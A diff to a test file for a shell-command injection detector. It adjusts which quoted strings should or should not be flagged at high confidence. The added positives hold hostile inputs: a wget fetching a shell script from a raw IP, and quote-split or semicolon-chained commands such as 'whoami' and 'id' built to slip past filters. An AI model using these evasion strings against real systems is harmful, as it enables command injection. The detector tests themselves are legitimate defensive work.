@@ -8,9 +8,14 @@ import { createEngine } from '../../src/engine';
 
 /** Each must be detected at confidence `high` with a `shell.` rule. */
 const positives: string[] = [
-  // Kept while the prose shapes in the negatives were relaxed (fp-hunt).
-  "'id'",
+  // Kept while the prose shapes in the negatives were relaxed (fp-hunt). A strong command quoted
+  // whole stays high; a weak one (an English word: `'id'`, `"where"`) is read as its bare name is
+  // (see the negatives), and splitting it inside the quotes is still a split.
   '"whoami"',
+  "'wget' http://203.0.113.9/x.sh",
+  '"w"here',
+  "x;'i'd",
+  "x;'id'",
   "'l's -la",
   '"w"ho"am"i',
   "';w'h'oami",
@@ -157,6 +162,12 @@ const positives: string[] = [
 
 /** Each must not be detected at `high` (prose, markup, data, documentation). */
 const negatives: string[] = [
+  // A weak command's name quoted whole: a quoted search term or field name, between the application's
+  // quotes the name between empty quotes, which runs only where the bare name would (session 14).
+  '"where"',
+  '"date" night ideas',
+  "'id'",
+  '"time" magazine',
   // Found by probing realistic text: User-Agents, stack traces, markdown, code, lists of tools.
   'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
   'php-curl-class/9.19.0 (+https://github.com/php-curl-class/php-curl-class)',
